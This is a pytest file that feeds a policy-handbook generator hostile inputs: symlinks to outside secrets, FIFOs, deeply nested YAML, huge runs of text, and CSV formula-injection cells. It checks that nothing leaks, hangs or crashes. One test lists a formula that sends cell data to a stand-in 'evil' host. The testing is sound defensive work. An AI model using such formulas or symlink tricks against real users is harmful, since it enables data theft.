"""The hostile corpus (tests/hostile/cases.yaml): every attack on the inputs gives its exact finding or refusal, and no
command prints a traceback, crashes, hangs or prints a secret from outside the project."""

from __future__ import annotations

import json
import logging
import os
import shutil
import signal
import subprocess
import sys
from contextlib import contextmanager
from pathlib import Path

import pytest

from generator.cli import main
from generator.source import safe_load

ROOT = Path(__file__).resolve().parents[1]
CASES = safe_load((ROOT / "tests" / "hostile" / "cases.yaml").read_text(encoding="utf-8"))
CHECK_CASES = ROOT / "tests" / "check_cases"
MINI = ROOT / "tests" / "fixtures" / "mini" / "policies"
TODAY = "2026-06-01"
SECRET = "TOKEN-5f0c1e-never-published"
POLICY = "policies/clean-policy.yaml"

# Inputs too large to spell out in the data file.
GENERATED = {
    "HUGE_COMMENT": "x" * (4 * 1024 * 1024 + 100),
    "BRACKETS_25000": "[" * 25000,
    "BRACES_25000": "{" * 25000,
    "BRACKETS_5000": "[" * 5000,
    "CLOSED_BRACKETS_100": "[" * 100 + "]" * 100,
    "NESTED_CLAUSES_150": "{id: x, clauses: [" * 150 + "{id: y, text: {zh: 乙, en: B}}" + "]}" * 150,
    "NESTED_CLAUSES_15": "".join(f"{{id: d{i}, title: {{zh: 甲, en: A}}, clauses: [" for i in range(1, 15))
    + "{id: d15, text: {zh: 乙, en: B}}" + "]}" * 14,
    "SIBLINGS_100": "\n".join(f"      - id: s{n}\n        number: {n + 2}\n        text: {{zh: 第{n}條, en: Item {n}}}" for n in range(1, 101)),
    "DIGITS_5000": "1" * 5000,
    "RUN_50000": "規" * 50000,
    "NOTE_MEGABYTE": "長" * 300_000,
}


def _generated(text: str) -> str:
    for name in sorted(GENERATED, key=len, reverse=True):
        text = text.replace(name, GENERATED[name])
    return text


@contextmanager
def deadline(seconds: int):
    """Fail instead of hanging (a FIFO read without O_NONBLOCK would block forever)."""
    def expired(signum, frame):
        raise TimeoutError(f"no answer within {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def outside(tmp_path: Path) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir(exist_ok=True)
    (folder / "secret.txt").write_text(f"CI_TOKEN={SECRET}\n", encoding="utf-8")
    return folder


def link_target(target: str, project: Path, tmp_path: Path) -> str:
    return {
        "OUTSIDE": str(outside(tmp_path) / "secret.txt"), "OUTSIDE_DIR": str(outside(tmp_path)),
        "GIT": str(project / ".git" / "config"), "GIT_DIR": str(project / ".git"),
    }.get(target, target)


def apply(case: dict, project: Path, tmp_path: Path, default_file: str = POLICY) -> Path:
    """Make the case's change to the project; returns the file it edited (or the default one)."""
    (project / ".git").mkdir(exist_ok=True)
    (project / ".git" / "config").write_text(f"[http]\n\textraheader = AUTHORIZATION: basic {SECRET}\n", encoding="utf-8")
    target = project / case.get("file", default_file)
    edits = {"text", "lines", "replace", "append", "bytes_utf16", "latin1"} & set(case)
    if edits:
        text = case["text"] if "text" in case else target.read_text(encoding="utf-8")
        if "lines" in case:
            text = "".join(text.splitlines(keepends=True)[: case["lines"]])
        for old, new in case.get("replace", []):
            assert old in text, f"{case['name']}: '{old}' is not in {target.name}"
            text = text.replace(old, new, 1)
        text = _generated(text + case.get("append", ""))
        if "bytes_utf16" in case:
            target.write_bytes(case["bytes_utf16"].encode("utf-16"))
        elif "latin1" in case:
            target.write_bytes(case["latin1"].encode("latin-1"))
        else:
            target.write_bytes(text.encode("utf-8", "surrogatepass"))
    for key in ("symlink", "symlink2"):
        if key in case:
            path, to = case[key]
            link = project / path
            if link.exists() or link.is_symlink():
                shutil.rmtree(link) if link.is_dir() and not link.is_symlink() else link.unlink()
            link.symlink_to(link_target(to, project, tmp_path))
    if "fifo" in case:
        fifo = project / case["fifo"]
        fifo.unlink(missing_ok=True)
        os.mkfifo(fifo)
    if "mkdir" in case:
        (project / case["mkdir"]).mkdir()
    return target


@pytest.fixture(scope="module")
def clean_project(tmp_path_factory) -> Path:
    """The check cases' frozen handbook data and clean policy, the checkout's templates, a one-page docs/."""
    root = tmp_path_factory.mktemp("clean") / "project"
    (root / "policies").mkdir(parents=True)
    shutil.copytree(CHECK_CASES / "handbook", root / "policies" / "handbook")
    shutil.copy(CHECK_CASES / "clean-policy.yaml", root / POLICY)
    shutil.copytree(ROOT / "templates", root / "templates")
    (root / "docs").mkdir()
    (root / "docs" / "index.md").write_text("# Handbook\n", encoding="utf-8")
    (root / "mkdocs.yml").write_text("site_name: Test\n", encoding="utf-8")
    return root


def fresh(clean_project: Path, tmp_path: Path) -> Path:
    project = tmp_path / "project"
    shutil.copytree(clean_project, project, symlinks=True)
    return project


def expected(case: dict, edited: Path, project: Path) -> set[str]:
    default = edited.relative_to(project).as_posix()
    return {entry if entry.count(":") == 2 else f"{default}:{entry}" for entry in case["expect"]}


def run_check(project: Path, capsys) -> tuple[int, list[dict], str]:
    with deadline(60):
        code = main(["-C", str(project), "check", "--today", TODAY, "--format", "json", str(project / POLICY)])
    out, err = capsys.readouterr()
    return code, json.loads(out)["findings"], out + err


@pytest.mark.parametrize("case", CASES["check"], ids=[c["name"] for c in CASES["check"]])
def test_check_reports_exactly_the_expected_findings(case, clean_project, tmp_path, capsys, monkeypatch):
    project = fresh(clean_project, tmp_path)
    edited = apply(case, project, tmp_path)
    monkeypatch.chdir(project)  # paths print relative to the current folder
    code, findings, printed = run_check(project, capsys)
    got = {f"{f['path']}:{f['line']}:{f['col']} {f['code']}" for f in findings}
    assert got == expected(case, edited, project), "\n".join(f"{f['path']}:{f['line']}:{f['col']} {f['code']} {f['message']}" for f in findings)
    assert code == (1 if any(f["severity"] == "error" for f in findings) else 0)
    assert SECRET not in printed and "/outside/" not in printed


DIFF_CASES = [c for c in CASES["check"] if c.get("file", POLICY) == POLICY and not {"symlink", "fifo", "mkdir"} & set(c)]


def _git(project: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false", *args],
                   cwd=project, check=True, capture_output=True)


@pytest.mark.parametrize("case", DIFF_CASES, ids=[c["name"] for c in DIFF_CASES])
def test_diff_survives_every_hostile_policy(case, clean_project, tmp_path, capsys):
    project = fresh(clean_project, tmp_path)
    shutil.rmtree(project / ".git", ignore_errors=True)
    _git(project, "init", "-q")
    _git(project, "add", "-A")
    _git(project, "commit", "-qm", "clean")
    apply(case, project, tmp_path)
    shutil.rmtree(project / ".git" / "config", ignore_errors=True) if (project / ".git" / "config").is_dir() else None
    with deadline(60):
        assert main(["-C", str(project), "diff", "HEAD", "--format", "json"]) == 0  # against the files on disk
        _git(project, "add", "-A")
        _git(project, "commit", "-qm", "hostile")
        assert main(["-C", str(project), "diff", "HEAD~1", "HEAD", "--format", "markdown"]) == 0  # between revisions
    out, err = capsys.readouterr()
    assert "Traceback" not in err


# Build -------------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def mini_project(tmp_path_factory) -> Path:
    from test_site import assemble_project

    return assemble_project(tmp_path_factory.mktemp("mini") / "project", MINI).root


def _output(case: dict, project: Path, tmp_path: Path) -> Path:
    out = tmp_path / "out"
    if case.get("out_symlink"):
        (tmp_path / "victim").mkdir()
        (tmp_path / "victim" / "keep.txt").write_text("mine", encoding="utf-8")
        out.symlink_to(tmp_path / "victim")
    for name in case.get("out_files", []):
        out.mkdir(exist_ok=True)
        (out / name).write_text("mine", encoding="utf-8")
    if case.get("out_file"):
        out.write_text("mine", encoding="utf-8")
    if case.get("out_below_file"):
        (tmp_path / "file").write_text("mine", encoding="utf-8")
        out = tmp_path / "file" / "site"
    if case.get("out_project"):
        out = project
    if case.get("out_docs"):
        out = project / "docs" / "site"
    return out


@pytest.fixture(autouse=True)
def console_log_of_this_test():
    """`rulebook build` logs to the stderr of the moment; in one process each test has its own, captured one."""
    yield
    logger = logging.getLogger("mkdocs")
    logger.handlers = [h for h in logger.handlers if not getattr(h, "rulebook", False)]


@pytest.mark.parametrize("case", CASES["build"], ids=[c["name"] for c in CASES["build"]])
def test_build_refuses_and_leaves_everything_as_it_was(case, mini_project, tmp_path, capsys):
    project = tmp_path / "project"
    shutil.copytree(mini_project, project, symlinks=True)
    apply(case, project, tmp_path, default_file="policies/mini-wall-rules.yaml")
    out = _output(case, project, tmp_path)
    before = sorted(p.name for p in tmp_path.iterdir())
    with deadline(120):
        code = main(["-C", str(project), "build", "--out", str(out)])
    out_text, err = capsys.readouterr()
    assert code == case["exit"], err
    assert SECRET not in out_text + err and "Traceback" not in err
    for kept in case.get("kept", []):
        assert (tmp_path / kept).read_text(encoding="utf-8") == "mine"
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # no site, no staging folder left behind
    assert not (project / "site").exists()


@pytest.mark.parametrize("words", [None, "a: [unclosed\n", "- a list, not entries\n"], ids=["missing", "broken", "a-list"])
def test_interface_words_that_cannot_be_read_are_named_by_every_command(words, mini_project, tmp_path, capsys):
    project = tmp_path / "project"
    shutil.copytree(mini_project, project, symlinks=True)
    config = project / "mkdocs.yml"  # the printers refuse a placeholder address before reading any words
    config.write_text(config.read_text(encoding="utf-8").replace("https://handbook.example.com/", "https://rules.test/"),
                      encoding="utf-8")
    catalogue = project / "templates" / "words.yaml"
    catalogue.unlink()
    if words is not None:
        catalogue.write_text(words, encoding="utf-8")
    for command in ("build", "poster", "checklist", "book", "acknowledgement"):
        code = main(["-C", str(project), command, "--out", str(tmp_path / command)])
        _, err = capsys.readouterr()
        assert code == 1 and "words.yaml" in err and "Traceback" not in err, (command, err)
        assert not (tmp_path / command).exists()


@pytest.mark.slow
def test_a_build_removes_what_killed_builds_left_and_nothing_else(mini_project, tmp_path, capsys):
    """A staging or retired folder of a process that no longer runs (or that had this very pid, as in containers)
    is removed when it carries the marker; a folder of the same name without it is somebody else's and stays."""
    from generator.output_folders import mark

    project = tmp_path / "project"
    shutil.copytree(mini_project, project, symlinks=True)
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True).stdout.strip()
    leftovers = [tmp_path / f".site.old-{os.getpid()}-0000", tmp_path / f".site.building-{dead}-abcd"]
    for folder in leftovers:
        folder.mkdir()
        (folder / "index.html").write_text("stale", encoding="utf-8")
        mark(folder)
    foreign = tmp_path / f".site.old-{dead}-keep"
    foreign.mkdir()
    (foreign / "notes.txt").write_text("mine", encoding="utf-8")
    assert main(["-C", str(project), "build", "--out", str(tmp_path / "site")]) == 0
    assert not any(folder.exists() for folder in leftovers)
    assert (foreign / "notes.txt").read_text(encoding="utf-8") == "mine"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["project", "site", foreign.name])
    assert (tmp_path / "site" / ".rulebook-output").is_file()


@pytest.mark.slow
def test_a_killed_build_leaves_nothing_behind(mini_project, tmp_path):
    """SIGTERM during a build: the staging folder is removed on the way out and the previous site stays."""
    project = tmp_path / "project"
    shutil.copytree(mini_project, project, symlinks=True)
    site = tmp_path / "site"
    assert main(["-C", str(project), "build", "--out", str(site)]) == 0  # the previous site; only the second is killed
    first = sorted(p.relative_to(site) for p in site.rglob("*"))
    build = subprocess.Popen([sys.executable, "-m", "generator", "-C", str(project), "build", "--out", str(site)],
                             env={**os.environ, "PYTHONPATH": str(ROOT)},
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    for _ in range(200):  # wait until the staging folder exists, then stop the build
        if list(tmp_path.glob(".site.building-*")):
            break
        subprocess.run(["sleep", "0.05"])
    build.send_signal(signal.SIGTERM)
    _, err = build.communicate(timeout=60)
    assert build.returncode != 0 and b"Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["project", "site"]
    assert sorted(p.relative_to(site) for p in site.rglob("*")) == first


# Import ------------------------------------------------------------------------------------------------------------


def _import_source(case: dict, tmp_path: Path) -> Path:
    source = tmp_path / "source.txt"
    if "path" in case:
        return Path(case["path"])
    if "fifo" in case:
        os.mkfifo(source)
    elif "folder" in case:
        source.mkdir()
    elif "size" in case:
        with open(source, "wb") as sparse:
            sparse.truncate(case["size"])
    elif "bytes" in case:
        source.write_bytes(case["bytes"].encode("latin-1"))
    elif "utf16" in case:
        source.write_bytes(case["utf16"].encode("utf-16"))
    elif "text" in case:
        source.write_text(_generated(case["text"]), encoding="utf-8")
    if case.get("symlink"):
        link = tmp_path / "link.txt"
        link.symlink_to(source)
        return link
    return source


@pytest.mark.parametrize("case", CASES["import"], ids=[c["name"] for c in CASES["import"]])
def test_import_refuses_what_is_no_text_file_and_survives_any_text(case, tmp_path, capsys):
    from generator.source import load_document

    source = _import_source(case, tmp_path)
    output = tmp_path / "imported.yaml"
    with deadline(case.get("seconds", 60)):
        code = main(["import", str(source), "--id", "imported", "-o", str(output)])
    out, err = capsys.readouterr()
    assert code == case["exit"], err
    assert case.get("message", "") in out + err
    if code == 0:  # what the importer writes is a policy file the loader reads without a finding about its form
        doc, problems = load_document(output)
        assert doc is not None and not [p for p in problems if p.code in ("E001", "E002", "E004", "E005")], problems
    else:
        assert not output.exists()


# Reproducible builds -------------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_two_builds_of_the_same_sources_are_byte_identical(mini_project, tmp_path):
    """Pages, search index, posters and checklists: the same bytes from two processes with different hash seeds, as
    long as SOURCE_DATE_EPOCH fixes the date the printed files show."""
    project = tmp_path / "project"
    shutil.copytree(mini_project, project, symlinks=True)
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("      print_files: false\n", ""), encoding="utf-8")
    builds = {}
    for seed in ("1", "2"):  # side by side: each is mostly printing
        env = {**os.environ, "PYTHONPATH": str(ROOT), "SOURCE_DATE_EPOCH": "1767225600", "PYTHONHASHSEED": seed}
        builds[tmp_path / f"site-{seed}"] = subprocess.Popen(
            [sys.executable, "-m", "generator", "-C", str(project), "build", "--out", str(tmp_path / f"site-{seed}")],
            env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    sites = []
    for site, build in builds.items():
        _, err = build.communicate(timeout=600)
        assert build.returncode == 0, err
        sites.append({p.relative_to(site).as_posix(): p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file()})
    first, second = sites
    assert any(name.endswith(".pdf") for name in first) and "search/search_index.json" in first
    assert sorted(first) == sorted(second)
    assert [name for name in first if first[name] != second[name]] == []


# Spreadsheets, search, preview -----------------------------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    import csv
    import io

    from generator import languages
    from generator.checklist import columns, to_csv

    registry = languages.default()
    hostile = ['=HYPERLINK("http://evil/?x="&A2,"ok")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    harmless = ["員工 = 職員", "a-b", "", "'quoted"]
    rows = [{column: "" for column in columns(registry)} | {"do_zh-Hant": text, "do_en": text} for text in hostile + harmless]
    read = list(csv.DictReader(io.StringIO(to_csv(rows, registry).decode("utf-8-sig"), newline="")))
    assert [row["do_zh-Hant"] for row in read] == ["'" + text for text in hostile] + harmless
    assert [row["do_en"] for row in read] == [row["do_zh-Hant"] for row in read]


def test_jieba_is_given_no_run_longer_than_the_bound(monkeypatch):
    from generator.site import search

    if search.jieba is None:
        pytest.skip("jieba is not installed")
    seen = []
    monkeypatch.setattr(search.jieba, "cut", lambda text, *a, **k: (seen.append(len(text)), [text])[1])
    monkeypatch.setattr(search.jieba, "cut_for_search", lambda text, *a, **k: (seen.append(len(text)), [text])[1])
    run = "規" * 50_000
    assert search.segment(run).replace(search.CUT, "") == run  # the text itself is kept whole
    search.search_words(run)
    assert seen and max(seen) <= search.MAX_RUN and sum(seen) == 2 * len(run)


def test_the_preview_serves_on_loopback_whatever_mkdocs_yml_says(tmp_path, monkeypatch, caplog):
    import mkdocs.commands.serve

    from generator.project import Project
    from generator.site.build import serve

    (tmp_path / "mkdocs.yml").write_text("site_name: T\ndev_addr: 0.0.0.0:8000\n", encoding="utf-8")
    calls = []
    monkeypatch.setattr(mkdocs.commands.serve, "serve", lambda **options: calls.append(options["dev_addr"]))
    with caplog.at_level(logging.WARNING, logger="mkdocs"):
        serve(Project(tmp_path), None)
    assert calls == ["127.0.0.1:8000"]
    assert "dev_addr: 0.0.0.0:8000" in caplog.text
    serve(Project(tmp_path), "0.0.0.0:9000")  # the administrator's own choice, on the command line
    assert calls[-1] == "0.0.0.0:9000"


def test_diff_reads_no_symlinked_policy_in_a_revision_or_on_disk(clean_project, tmp_path, capsys):
    project = fresh(clean_project, tmp_path)
    shutil.rmtree(project / ".git", ignore_errors=True)
    _git(project, "init", "-q")
    _git(project, "add", "-A")
    _git(project, "commit", "-qm", "clean")
    apply({"name": "evil", "symlink": ["policies/evil.yaml", "OUTSIDE"]}, project, tmp_path)
    assert main(["-C", str(project), "diff", "HEAD", "--format", "text"]) == 0
    on_disk = capsys.readouterr().out
    _git(project, "add", "-A")
    _git(project, "commit", "-qm", "a link")
    assert main(["-C", str(project), "diff", "HEAD~1", "HEAD", "--format", "text"]) == 0
    in_history = capsys.readouterr().out
    for out in (on_disk, in_history):
        assert "evil.yaml" in out and SECRET not in out and "outside" not in out


@pytest.mark.slow  # jieba cuts all 50,000 characters, in pieces
def test_a_long_run_of_one_character_reaches_jieba_only_in_pieces(mini_project, tmp_path, monkeypatch, capsys):
    """The search plugin cuts each run of Chinese with jieba, whose time grows with the square of a run of one
    character; the pages break such runs (invisibly) and the index is cut in bounded pieces."""
    from generator.site import search

    if search.jieba is None:
        pytest.skip("jieba is not installed")
    project = tmp_path / "project"
    shutil.copytree(mini_project, project, symlinks=True)
    policy = project / "policies" / "mini-wall-rules.yaml"
    text = policy.read_text(encoding="utf-8")
    assert "本制度適用於運營部全體員工。" in text
    policy.write_text(text.replace("本制度適用於運營部全體員工。", "本制度適用於運營部全體員工" + "規" * 50_000 + "。", 1), encoding="utf-8")
    seen = []
    for name in ("cut", "cut_for_search"):
        real = getattr(search.jieba, name)
        monkeypatch.setattr(search.jieba, name, lambda value, *a, _real=real, **k: (
            seen.append(len(value.decode() if isinstance(value, bytes) else value)), _real(value, *a, **k))[1])
    assert main(["-C", str(project), "build", "--out", str(tmp_path / "site")]) == 0
    assert seen and max(seen) <= search.MAX_RUN
    page = (tmp_path / "site" / "policies" / "mini-wall-rules" / "index.html").read_text(encoding="utf-8")
    assert "規" * 50_000 in page.replace(search.CUT, "")


def test_the_preview_shows_a_broken_handbook_instead_of_hanging(mini_project, tmp_path, capsys):
    from mkdocs.commands.build import build as mkdocs_build
    from mkdocs.config import load_config

    from generator.project import Project
    from generator.site.build import build_or_show_errors

    project = tmp_path / "project"
    shutil.copytree(mini_project, project, symlinks=True)
    policy = project / "policies" / "mini-wall-rules.yaml"
    policy.write_text(policy.read_text(encoding="utf-8").replace("effective: 2026-01-01", "effective: 2026-02-30", 1), encoding="utf-8")
    site = tmp_path / "preview"
    (site / "old").mkdir(parents=True)
    (site / "old" / "index.html").write_text("the page before", encoding="utf-8")
    config = load_config(config_file=str(project / "mkdocs.yml"), site_dir=str(site))
    config.plugins.on_startup(command="serve", dirty=False)
    build_or_show_errors(mkdocs_build, Project(project), config)  # no exception: the preview goes on
    page = (site / "404.html").read_text(encoding="utf-8")
    assert "mini-wall-rules.yaml:9:12: E010" in page and "2026-02-30" in page
    assert (site / "index.html").read_text(encoding="utf-8") == page
    assert sorted(p.name for p in site.iterdir()) == ["404.html", "index.html"]  # every address shows the errors
